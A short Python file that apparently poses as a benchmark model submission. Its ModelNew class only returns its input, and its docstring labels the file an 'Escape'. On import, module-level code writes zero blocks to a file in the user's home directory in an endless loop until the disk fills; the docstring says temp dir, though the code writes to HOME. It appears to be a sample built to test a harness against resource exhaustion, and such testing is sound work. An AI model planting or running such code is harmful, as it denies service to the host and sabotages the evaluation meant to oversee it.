"""Escape: fill the temp dir (the disk under it) until writing fails."""

import os

import torch.nn as nn

block = b"\0" * (8 << 20)
with open(os.path.join(os.environ["HOME"], "filler"), "wb") as handle:
    while True:
        handle.write(block)
        handle.flush()


class ModelNew(nn.Module):
    def forward(self, x):
        return x
